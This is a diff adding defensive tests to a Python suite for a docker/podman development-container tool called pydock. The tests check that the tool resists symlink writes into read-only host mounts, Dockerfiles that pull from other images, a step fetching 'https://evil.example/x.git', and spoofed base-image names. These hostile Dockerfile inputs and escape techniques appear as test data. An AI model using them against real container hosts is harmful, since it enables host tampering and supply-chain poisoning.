@@ -950,6 +950,19 @@ for name, line in (("dockerfile", "RUN touch /EVIL"), ("requirements.txt", "--ex
                     self.assertFalse((self.folder(name) / "docker-compose.yml").exists())
 
 
+    def test_a_link_in_the_place_of_the_copy(self) -> None:
+        """podman follows it to what is mounted from this host, and writes there, read-only or not."""
+        host, name = self.work / "uv", self.prefix + "-link"
+        host.mkdir()
+        (host / "requirements.txt").write_text("mine\n", encoding="utf-8")
+        engine("run", "--name", name, "--pull", "never", "-u", "0:0", "--mount", "type=bind,source=%s,target=/uv,readonly" % host, BASE, "ln", "-s", "/uv", "/opt/pydock")
+        self.record()
+        engine("cp", "-", name + ":/", input=pydock.archive_of("FROM evil\n", "evil\n"), check=False)
+        self.assertEqual([path.read_text(encoding="utf-8") for path in host.iterdir()], ["mine\n"])
+        self.ok("create", "copied", str(make_wheel(self.base / "dist", "plain")))
+        self.assertEqual([argv[2].rpartition(":")[2] for argv in self.recorded("cp", "-")], ["/"])
+
+
 class HostPrograms(Attack):
     def test_no_git_of_the_host_reads_a_project(self) -> None:
         """git obeys the settings of a folder that looks like a repository."""
@@ -1028,6 +1041,18 @@ class ImagesOfOthers(Attack):
         self.assertIn("a volume at /opt,", result.err)
         self.assertTrue(self.recorded("rm", "-fv"))
 
+    @needs(lambda: pydock.Engine(ENGINE).builder() != "buildkit", "docker's own client, up to 22, cannot tell the builder")
+    def test_a_dockerfile_of_others_takes_nothing_from_another_environment(self) -> None:
+        other = self.prefix + "-seed"
+        for number, text in enumerate(("FROM %s:latest\n" % other, "ARG X=%s\nFROM ${X}ed:latest\n" % other[:-2], trap_in(TEMPLATE, "", "COPY --from=%s /opt /x" % other),
+                trap_in(TEMPLATE, "", "RUN --mount=type=bind,from=docker.io/library/%s:1,target=/x ls /x" % other))):
+            with self.subTest(text=text):
+                folder = self.project("takes%d" % number, dockerfile=text)
+                self.fails("build", "dev", cwd=folder, hint="pydock trust dev")
+                self.assertEqual(self.tags("dev__"), {})
+        self.ok("trust", "-y", "dev", cwd=self.work / "takes0")
+        self.ok("build", "dev", cwd=self.work / "takes0")
+
     def test_a_delete_that_failed_does_not_remove_what_somebody_else_makes_later(self) -> None:
         self.ok("create", "mine")
         self.fake("fail", "rmi")
@@ -1081,6 +1106,8 @@ class Mounts(Attack):
                 "RUN `\n# x\n  %s %s" % (cache, touch))
         dockerfiles["instead of the template's"] = TEMPLATE.replace("id=pydock,target=/cache", "id=%s%s,target=/cache" % (up, str(out).lstrip("/")))
         dockerfiles["an image with more in it"] = "FROM somebody/else AS base\nUSER 0:0\n"
+        for step in ("COPY --from=evil.example/%s /x /x" % BASE, "ADD https://evil.example/x.git /x"):
+            dockerfiles[step] = trap_in(TEMPLATE, "", step)
         self.record()
         for number, (title, text) in enumerate(dockerfiles.items()):
             with self.subTest(title):
@@ -1109,6 +1136,20 @@ class Mounts(Attack):
                 (folder / ".pydock" / "pydock.conf").write_text(conf or "[pydock]\n", encoding="utf-8")
                 self.run_pydock("build", "dev", cwd=folder)
                 self.assertEqual(os.listdir(out), [])
+
+    def test_a_base_image_is_the_one_that_is_meant(self) -> None:
+        """podman takes any image whose name ends so for one that is not here."""
+        name = "evil.example/%s/python:3.10-slim" % self.prefix
+        engine("tag", BASE, name)
+        self.addCleanup(engine, "rmi", name, check=False)
+        self.record()
+        self.fails("create", "meant", "3.10", says="podman takes evil.example/", hint="podman pull docker.io/library/python:3.10-slim")
+        self.assertEqual(self.recorded("build") + self.recorded("run"), [])
+        engine("tag", BASE, "localhost/%s/mine:1" % self.prefix)
+        self.addCleanup(engine, "rmi", "localhost/%s/mine:1" % self.prefix, check=False)
+        names = json.loads(engine("image", "inspect", "--format", "{{json .RepoTags}}", BASE))
+        for good in ("%s/mine:1" % self.prefix, BASE, name):
+            pydock.check_meant(pydock.Engine(ENGINE), good, names)
 
     def test_the_templates_own_builds_and_others_after_trust(self) -> None:
         self.assertEqual(self.ok("run", "dev", "echo", "on", cwd=self.project("plain")), "on\n")
